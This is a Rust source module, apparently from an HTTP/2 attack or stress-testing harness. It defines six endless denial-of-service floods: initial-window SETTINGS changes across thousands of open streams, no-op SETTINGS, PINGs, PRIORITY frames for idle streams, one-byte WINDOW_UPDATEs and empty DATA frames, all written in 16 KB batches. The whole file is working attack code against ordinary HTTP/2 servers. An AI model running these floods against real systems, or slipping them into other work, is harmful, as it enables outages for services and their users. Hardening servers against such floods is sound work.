//! Floods of frames that carry no message.

use std::io;

use super::attack::Attack;
use crate::arena::Arena;
use crate::http2::{Connection, FrameWriter, Opening, Reading, kind, request_block, setting};

/// How many bytes are written at a time.
const BATCH_BYTES: usize = 16 * 1024;
/// How many streams are open while the initial window of all of them is changed.
const STREAMS: usize = 4_000;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "initial-window-flood",
        "changes of the initial window with as many open streams as the peer takes",
        |arena| {
            Box::pin(flood(arena, STREAMS, |frames, turn, _| {
                frames.settings(&[(setting::INITIAL_WINDOW, 65_535 + turn % 2)]);
            }))
        },
    ),
    Attack::new("settings-flood", "settings that change nothing", |arena| {
        Box::pin(flood(arena, 0, |frames, _, _| {
            frames.settings(&[(setting::MAX_FRAME_BYTES, 16_384)]);
        }))
    }),
    Attack::new("ping-flood", "pings", |arena| {
        Box::pin(flood(arena, 0, |frames, _, _| {
            frames.ping(0, &[7; 8]);
        }))
    }),
    Attack::new(
        "priority-flood",
        "priorities of streams that are idle",
        |arena| {
            Box::pin(flood(arena, 0, |frames, turn, _| {
                let stream = 1_000_001 + 2 * (turn % 10_000);
                frames.frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
            }))
        },
    ),
    Attack::new(
        "window-update-flood",
        "windows that grow by one byte",
        |arena| {
            Box::pin(flood(arena, 1, |frames, _, stream| {
                frames.window_update(0, 1).window_update(stream, 1);
            }))
        },
    ),
    Attack::new("empty-data-flood", "data frames without data", |arena| {
        Box::pin(flood(arena, 1, |frames, _, stream| {
            frames.data(stream, &[], 0);
        }))
    }),
];

/// Writes one turn of a flood, given its number and the number of an open stream.
type Flood = fn(&mut FrameWriter, u32, u32);

async fn flood(arena: Arena, streams: usize, write: Flood) {
    let opening = Opening {
        reading: Reading::NoWindows,
        settings: &[],
        window: 0,
    };
    arena
        .attack_again(move |arena, index| async move {
            let mut connection = Connection::open(&arena, index, opening).await?;
            connection.settled().await?;
            let streams = streams.min(connection.inbound().max_streams());
            let stream = open(&mut connection, streams).await?;
            for turn in 0.. {
                write(&mut connection.out, turn, stream);
                if connection.out.len() >= BATCH_BYTES {
                    connection.flush().await?;
                }
            }
            Ok(())
        })
        .await;
}

/// Opens this many streams, and sends nothing on them. Returns the number of the last one.
async fn open(connection: &mut Connection, streams: usize) -> io::Result<u32> {
    let block = request_block(3_600);
    let mut stream = 0;
    for _ in 0..streams {
        stream = connection.open_stream(&block, 0);
    }
    connection.flush().await?;
    Ok(stream)
}
